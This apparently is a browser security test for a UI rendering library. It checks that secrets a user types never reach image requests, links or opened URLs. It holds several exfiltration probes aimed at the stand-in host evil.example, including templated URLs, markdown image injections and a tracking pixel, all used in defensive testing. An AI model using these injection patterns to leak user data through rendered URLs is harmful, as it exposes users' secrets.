// @vitest-environment node
// What a view makes a browser ask for: never anything that is typed, and what cannot be had is a link.

import { describe, expect, it } from "vitest";
import { browserFor, isThere } from "./chromium";
import { guestCode, HANGS, responds, show } from "./guest";

const EVIL = "https://evil.example";
const template = (place: string) => ({
  call: "formatString",
  args: { value: `${EVIL}/?q=\${${place}}` },
});
const image = (id: string, url: unknown) => ({ id, component: "Image", url });
const list = (id: string, child: string, path: string) => ({
  id,
  component: "List",
  children: { componentId: child, path },
});
const opener = (id: string, url: unknown) => ({
  id,
  component: "Button",
  child: `${id}Word`,
  action: { functionCall: { call: "openUrl", args: { url } } },
});
const records = { rows: { path: "/context/list" }, titleField: "url" };
const column = { field: "url", label: "U", format: "image" };
const parts = [
  { id: "field", component: "TextField", label: "Secret", value: { path: "/context/secret" } },
  { id: "other", component: "TextField", label: "Other", value: { path: "/ui/other" } },
  image("path", { path: "/context/url" }),
  image("filled", template("/context/secret")),
  image("ui", template("/ui/other")),
  image("called", template("formatString(value: /context/secret)")),
  image("quoted", template("formatString(value: '${/context/secret}')")),
  image("data", { call: "formatString", args: { value: { path: "/props/template" } } }),
  image("chosen", {
    call: "pluralize",
    args: {
      value: { call: "length", args: { value: { path: "/context/secret" }, min: 3 } },
      one: `${EVIL}/long`,
      other: { path: "/context/url" },
    },
  }),
  image("escaped", { path: "/context~1/../context/url" }),
  {
    id: "facts",
    component: "KeyValue",
    items: [
      { label: "a", value: { path: "/context/url" }, format: "image" },
      { label: "b", value: template("/context/secret"), format: "image" },
      { label: "c", value: { path: "/context/photo" } },
      { label: "d", value: { path: "/context/album" } },
      { label: "e", value: { path: "/context/photo" }, format: "image" },
    ],
  },
  { id: "cards", component: "Cards", ...records, imageField: "url", columns: [column] },
  {
    id: "table",
    component: "Table",
    ...records,
    columns: [column, { field: "photo", label: "P", format: "record" }],
  },
  { id: "values", component: "Values", value: { path: "/context/album" } },
  { id: "tree", component: "Tree", ...records, root: { path: "/context/tree" }, columns: [column] },
  list("list", "item", "/context/list"),
  image("item", { path: "url" }),
  list("literal", "pixel", "/context/list"),
  image("pixel", `${EVIL}/pixel`),
  list("outer", "inner", "/context/list"),
  { id: "inner", component: "Cards", rows: { path: "more" }, titleField: "url", imageField: "url" },
  {
    id: "text",
    component: "Text",
    text: { call: "formatString", args: { value: `![x](${EVIL}/?q=\${/context/secret})` } },
  },
  // Links.
  {
    id: "links",
    component: "KeyValue",
    items: [
      { label: "l", value: { path: "/context/url" }, format: "url" },
      { label: "m", value: template("/context/secret"), format: "url" },
      { label: "n", value: { path: "/context/mail" }, format: "email" },
      { label: "o", value: { path: "/context/written" }, format: "markdown" },
    ],
  },
  {
    id: "linkText",
    component: "Text",
    text: { call: "formatString", args: { value: `[x](${EVIL}/?q=\${/context/secret})` } },
  },
  { id: "linkHead", component: "Text", variant: "h2", text: { path: "/context/written" } },
  {
    id: "linkProp",
    component: "Text",
    text: { call: "formatString", args: { value: { path: "/props/link" } } },
  },
  list("linkList", "linkItem", "/context/list"),
  { id: "linkItem", component: "Text", text: `[x](${EVIL}/pixel)` },
  {
    id: "linkTable",
    component: "Table",
    ...records,
    columns: ["url", "email", "markdown", "record"].map((format) => ({
      field: { email: "mail", markdown: "written", record: "more" }[format] ?? "url",
      label: format,
      format,
      parts: format === "record" ? [{ field: "url", label: "U", format: "url" }] : undefined,
    })),
  },
  // What a slot says of records that were given.
  {
    id: "changed",
    component: "Cards",
    rows: { path: "/props/rows" },
    key: "id",
    changes: { path: "/context/list" },
    titleField: "id",
    imageField: "url",
    columns: [{ field: "url", label: "U", format: "url" }],
  },
  { id: "poll", component: "Poll", ...records, key: "id", titleField: "url", titleFormat: "url" },
  {
    id: "chat",
    component: "Chat",
    ...records,
    textField: "written",
    textFormat: "markdown",
    authorField: "id",
  },
  {
    id: "matrix",
    component: "Matrix",
    rows: { path: "/context/list" },
    rowField: "id",
    columnField: "id",
    valueField: "url",
    format: "url",
  },
  opener("opens", template("/context/secret")),
  { id: "opensWord", component: "Text", text: "Open opens" },
  opener("opensSlot", { path: "/context/url" }),
  { id: "opensSlotWord", component: "Text", text: "Open opensSlot" },
];
const inTemplates = ["item", "pixel", "inner", "linkItem", "opensWord", "opensSlotWord"];

describe.skipIf(!isThere)("the addresses of a view", () => {
  const browser = browserFor(guestCode);

  it(
    "never carry what is typed, letter by letter or all at once",
    async () => {
      const entry = {
        id: "one",
        url: `${EVIL}/record`,
        mail: "record@evil.example",
        written: `**Record** [record](${EVIL}/record)`,
        more: [{ url: `${EVIL}/inner` }],
        photo: { src: `${EVIL}/record.png`, alt: "A record" },
      };
      const photo = { url: `${EVIL}/slot.png`, alt: "A slot" };
      const { page, requested, errors } = await show(browser(), {
        components: [
          {
            id: "root",
            component: "Column",
            children: parts.map(({ id }) => id).filter((id) => !inTemplates.includes(id)),
          },
          ...parts,
        ],
        props: {
          template: `${EVIL}/?q=\${/context/secret}`,
          link: `[x](${EVIL}/?q=\${/context/secret})`,
          rows: [{ id: "one" }],
        },
        context: {
          secret: "hunter1",
          url: `${EVIL}/slot`,
          mail: "slot@evil.example",
          written: `**Slot** [slot](${EVIL}/slot)`,
          photo,
          album: { cover: photo, all: [photo] },
          list: [entry],
          tree: [entry],
        },
      });
      await page.getByLabel("Secret").pressSequentially("hunter2");
      await page.getByLabel("Other").pressSequentially("hunter3");
      await responds(page);
      await page.evaluate(() => {
        const opened: string[] = [];
        Object.assign(globalThis, { opened, open: (url: string) => void opened.push(url) });
      });
      for (const name of ["Open opens", "Open opensSlot"])
        await page.getByRole("button", { name, exact: true }).click();
      expect(
        await page.evaluate(() => (globalThis as unknown as { opened: string[] }).opened),
      ).toEqual([`${EVIL}/?q=`]);
      // What is typed is shown as it is, without a link.
      expect(
        await page
          .locator("a[href]")
          .evaluateAll((links) =>
            links
              .map((link) => (link as HTMLAnchorElement).href)
              .filter((url) => /hunter|slot|record|inner|pixel/.test(url)),
          ),
      ).toEqual([]);
      expect(await page.locator(".g-table, table").first().textContent()).toContain("record");
      expect(await page.locator(".g-chat strong", { hasText: "Record" }).count()).toBe(1);
      expect(requested.filter((url) => url.includes("evil"))).toEqual(
        // Without what is typed they are addresses like any other.
        requested.filter((url) => url === `${EVIL}/?q=` || url === `${EVIL}/long`),
      );
      expect(
        await page
          .locator("img")
          .evaluateAll((images) =>
            images
              .map((image) => (image as HTMLImageElement).src)
              .filter((url) => /hunter|slot|record|inner|pixel/.test(url)),
          ),
      ).toEqual([]);
      expect(errors).toEqual([]);
      await page.close();
    },
    2 * HANGS,
  );

  it(
    "that were given are asked for, and are links where nothing comes of it",
    async () => {
      const given = "https://img.example/a.png";
      const { page, requested } = await show(browser(), {
        components: [
          {
            id: "root",
            component: "Column",
            children: ["image", "facts", "cards", "page", "text", "opens"],
          },
          {
            id: "page",
            component: "KeyValue",
            items: [{ label: "p", value: { path: "/props/page" }, format: "url" }],
          },
          {
            id: "text",
            component: "Text",
            text: {
              call: "formatString",
              args: { value: "[${/props/title}](${/props/page}) ${/context/none}" },
            },
          },
          opener("opens", { path: "/props/page" }),
          { id: "opensWord", component: "Text", text: "Open" },
          image("image", { path: "/props/url" }),
          {
            id: "facts",
            component: "KeyValue",
            items: [{ label: "a", value: { path: "/props/url" }, format: "image" }],
          },
          {
            id: "cards",
            component: "Cards",
            rows: { path: "/props/rows" },
            titleField: "title",
            imageField: "url",
          },
        ],
        props: {
          url: given,
          page: "https://page.example/",
          title: "One",
          rows: [{ title: "One", url: given }],
        },
      });
      for (const part of ["image", "keyvalue", "cards"])
        await page.locator(`.g-${part}:is(a), .g-${part} a`).first().waitFor();
      expect(new Set(requested)).toContain(given);
      expect(
        await page
          .locator("a")
          .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href)),
      ).toEqual([given, given, given, "https://page.example/", "https://page.example/"]);
      await page.evaluate(() => {
        const opened: string[] = [];
        Object.assign(globalThis, { opened, open: (url: string) => void opened.push(url) });
      });
      await page.getByRole("button", { name: "Open" }).click();
      expect(
        await page.evaluate(() => (globalThis as unknown as { opened: string[] }).opened),
      ).toEqual(["https://page.example/"]);
      expect(await page.locator("img").count()).toBe(0);
      await page.close();
    },
    2 * HANGS,
  );
});
